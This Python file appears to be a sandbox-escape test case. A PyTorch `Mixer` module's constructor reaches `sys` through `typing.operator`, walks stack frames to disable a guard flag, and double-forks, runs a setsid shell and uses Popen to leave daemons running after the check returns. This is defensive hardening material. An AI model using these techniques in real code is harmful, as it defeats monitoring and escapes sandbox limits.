"""Attack class: a daemon that outlives the check (double fork + setsid, or a detached shell)
and acts after `check` has returned: writes a file outside and connects to a listener."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        os = sys.modules["os"]
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    sys.modules["time"].sleep(4)
                    try:
                        open_ = sys.modules["builtins"].open
                        open_("ESCAPE_DIR/daemon_alive", "w").write("x")
                    finally:
                        os._exit(0)
                os._exit(0)
        except Exception as exc:
            print("blocked fork", type(exc).__name__)
        try:
            os.system("setsid sh -c 'sleep 4; touch ESCAPE_DIR/daemon_shell' >/dev/null 2>&1 &")
        except Exception as exc:
            print("blocked shell", type(exc).__name__)
        try:
            sys.modules["subprocess"].Popen(["sleep", "1717"], start_new_session=True)
        except Exception as exc:
            print("blocked popen", type(exc).__name__)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
